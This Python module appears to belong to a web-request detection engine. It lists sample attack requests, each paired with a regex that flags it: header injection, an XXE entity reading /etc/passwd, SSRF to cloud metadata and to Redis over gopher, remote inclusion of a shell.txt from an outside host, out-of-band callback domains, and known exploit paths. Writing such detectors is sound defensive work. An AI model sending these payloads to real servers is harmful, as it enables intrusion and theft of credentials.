"""Lines, documents and addresses that make the server speak to others."""

from __future__ import annotations

from tracking.engine.families import (
    HEADER_INJECTION,
    KNOWN_EXPLOIT,
    REQUEST_FORGERY,
    XML_INJECTION,
)
from tracking.engine.payloads.payload import NAMED, Payload

_NOT_HERE = r"(?!10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)"

PROTOCOLS = (
    Payload(
        HEADER_INJECTION,
        "/%0d%0aSet-Cookie:x=1",
        ("\n",),
        r"\n {0,4}\d?(?:set-cookie2?|content-(?:type|length|disposition)|transfer-encoding"
        r"|x-xss-protection) ?: ?\S|\n {0,4}\d?(?:location|refresh) ?: ?(?:https?:|//|\d;)"
        r"|\n {0,2}http/1\.[01] \d",
    ),
    # Mail servers: SMTP, POP3, IMAP.
    Payload(
        HEADER_INJECTION,
        "/?to=%0d%0aRCPT TO: x@evil.example",
        ("\n", "\u560a", "\u560d"),
        r"\n {0,2}(?:rcpt to|mail from|bcc) ?:|\n(?:quit|data|helo \w{1,64}|stats)\n"
        r"|\n[a-z]\d{2,4} (?:capability|fetch|noop|examine|login|select)|\napop \w"
        r"|[\u560a\u560d]{1,2}[\w-]{2,32}:|^=?[^\n]{0,128}\n(?:quit|data)$",
    ),
    Payload(
        XML_INJECTION,
        "/?x=<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
        ("<!", "!entity"),
        r"<!entity|!entity %|<!doctype [^>]{1,64}(?:\[|system|public)|<!\[cdata\["
        r"|<!-{0,2} ?# ?(?:exec|include|echo|printenv|config|set|fsize|flastmod)\b",
    ),
    Payload(
        XML_INJECTION,
        "/?x=<esi:include src=x>",
        ("<esi:", "<xsl:", "<xi:", "xmlns:xi"),
        r"<esi:(?:include|inline|debug|vars)|<xsl:|<xi:include|xmlns:xi=",
    ),
    Payload(
        REQUEST_FORGERY,
        "/?url=gopher://127.0.0.1:6379/_x",
        ("gopher:", "dict:", "ldap", "sftp:", "tftp:", "jar:", "netdoc:", "file:", "rmi:"),
        rf"(?:{NAMED}|[=/])(?:gopher|dict|ldaps?|sftp|tftp|netdoc|rmi)://"
        rf"|[=/]jar:(?:https?|file|ftp)|{NAMED}(?:url:)?(?:local_)?file:/{{1,3}}[\w?/$]",
    ),
    # Names that resolve inside a cloud only; there a machine is told its own keys.
    Payload(
        REQUEST_FORGERY,
        "/?url=http://169.254.169.254/latest/meta-data/",
        ("169.254.", "metadata.google", "100.100.100.200", ".internal", ".svc"),
        rf"{NAMED}[^&]{{0,64}}(?:169\.254\.(?:169\.254|170\.2)|metadata\.google\.internal"
        r"|100\.100\.100\.200|\bdocker\.internal|\.svc\.cluster\.local|kubernetes\.default\.svc)",
    ),
    # A script elsewhere that the application is to include: by address, or cut off with a mark.
    Payload(
        REQUEST_FORGERY,
        "/?src=http://203.0.113.9/shell.txt",
        ("http://", "https://", "ftp://", "ftps://"),
        rf"{NAMED}(?:https?|ftps?)://{_NOT_HERE}(?:\d{{1,3}}(?:\.\d{{1,3}}){{3}}(?::\d{{1,5}})?/"
        r"[^&]{0,96}\.(?:php\d?|txt|sh|exe|jsp|aspx?|bin|elf|ps1)\b"
        r"|[^&? /]{1,64}/[^&? ]{0,96}\.(?:php\d?|phtml|txt|sh|ps1)\?{1,2}(?:$|&))",
    ),
    Payload(
        REQUEST_FORGERY,
        "/?mosConfig_absolute_path=http://evil.example",
        ("mosconfig", "_conf[", "_server[", "abspath=", "absolute_path"),
        r"(?:mosconfig_\w{1,32}|_(?:conf|server|config)\[[\w-]{1,32}\]|\w{0,32}abs(?:olute_?)?path)"
        r"=(?:https?|ftp)://",
    ),
    # Where tools listen for an answer that comes another way.
    Payload(
        REQUEST_FORGERY,
        "/?url=http://x.oast.me/",
        ("oast.", "burpcollaborator", "interact.sh", "interactsh", "dnslog.cn"),
        r"\.oast\.(?:me|pro|live|site|online|fun)|burpcollaborator\.net|\.interact\.sh|interactsh"
        r"|\.dnslog\.cn",
    ),
    # Two extensions: one for whoever checks the name, one for whoever runs the file.
    Payload(
        KNOWN_EXPLOIT,
        "/upload/do.php;.png",
        (";.", "\n.", "\u560a"),
        r"\.(?:php\d?|phtml|aspx?|jspx?)[;\n\u560a\u560d]{1,2}\.(?:png|jpe?g|gif|pdf|txt|css|js|svg)",
    ),
    Payload(
        KNOWN_EXPLOIT,
        "/autodiscover/autodiscover.json?@evil.example/PowerShell",
        ("autodiscover.json",),
        r"autodiscover\.json\?.{0,128}(?:powershell|mapi|/owa)",
    ),
    Payload(
        KNOWN_EXPLOIT,
        r"/index.php?s=/index/\think\app/invokefunction",
        ("think",),
        r"[?&]s=.{0,32}[\\/]think\\",
    ),
    # One address for whoever checks the path, another for whoever serves it.
    Payload(
        KNOWN_EXPLOIT,
        "/hax?jsp=/app/rest/server;.jsp",
        (";.jsp", "v1;v1", "index.php?.php/"),
        r";\.jsp|/v1;v1/|index\.php\?\.php/",
    ),
    Payload(
        KNOWN_EXPLOIT,
        "/setup.php?todo=syscmd&cmd=ls",
        ("poller_id", "todo=syscmd", "?--env=", "type=rau"),
        r"poller_id=[^&]{0,16}[;|`$]|todo=syscmd|\?--env=|webresource\.axd\?type=rau",
    ),
)
